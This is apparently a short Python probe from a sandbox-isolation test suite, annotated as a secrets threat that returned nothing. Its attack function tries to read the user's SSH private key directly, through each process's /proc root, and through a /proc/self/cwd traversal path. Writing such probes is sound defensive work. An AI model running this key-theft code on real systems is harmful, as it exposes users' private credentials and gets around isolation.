# shows: returned ''
# threat: secrets
"""Reads a key in the user's home, directly and through what other processes see."""

import glob
import os


def attack(place):
    key = place["home"] + "/.ssh/id_ed25519"
    for root in ["", *glob.glob("/proc/[0-9]*/root"), "/proc/self/cwd/../../../../.."]:
        try:
            with open(root + key) as file:
                return file.read()
        except OSError:
            continue
    return ""
